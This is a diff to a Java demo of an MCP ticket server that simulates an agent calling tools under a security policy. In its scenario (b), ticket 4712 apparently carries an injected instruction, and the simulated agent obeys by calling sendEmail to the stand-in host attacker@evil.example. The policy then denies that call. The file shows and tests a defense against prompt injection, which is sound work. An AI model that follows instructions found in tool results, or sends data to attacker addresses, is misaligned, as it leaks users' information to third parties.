@@ -30,8 +30,7 @@ import tools.jackson.databind.json.JsonMapper;
  * that calls them as an agent would.
  */
 public class McpSdkTicketServer {
-  static final String USER_REQUEST = "Read ticket 4711 and e-mail bob@acme.com the subject"
-      + " \"Ticket 4711\" and the text \"The printer is being fixed.\"";
+  static final String USER_REQUEST = "Read ticket 4711 and e-mail bob@acme.com a short summary.";
 
   /** The server: {@code java ... McpSdkTicketServer serve support.yaml "the user's request"}. */
   static void serve(Path policy, String userRequest) throws InterruptedException {
@@ -81,15 +80,16 @@ public class McpSdkTicketServer {
         .build();
     try {
       client.initialize();
-      // (a) the user's task
+      // (a) the user's task: the recipient is the user's, subject and body the model's
       call(client, "getTicket", Map.of("id", "4711"));
       System.out.println(call(client, "sendEmail", Map.of("to", "bob@acme.com",
-          "subject", "Ticket 4711", "body", "The printer is being fixed.")));
+          "subject", "Ticket 4711",
+          "body", "Hi Bob, the printer on floor 3 jams; it is being fixed.")));
       // sent to bob@acme.com
       // (b) ticket 4712 tells the agent to mail someone else, and the agent obeys
       call(client, "getTicket", Map.of("id", "4712"));
       System.out.println(call(client, "sendEmail", Map.of("to", "attacker@evil.example",
-          "subject", "Ticket 4712", "body", "The printer is being fixed.")));
+          "subject", "Ticket 4712", "body", "Hi, the printer jams; it is being fixed.")));
       // error: APE denied this tool call: it is not permitted by the security policy.
     } finally {
       client.closeGracefully();
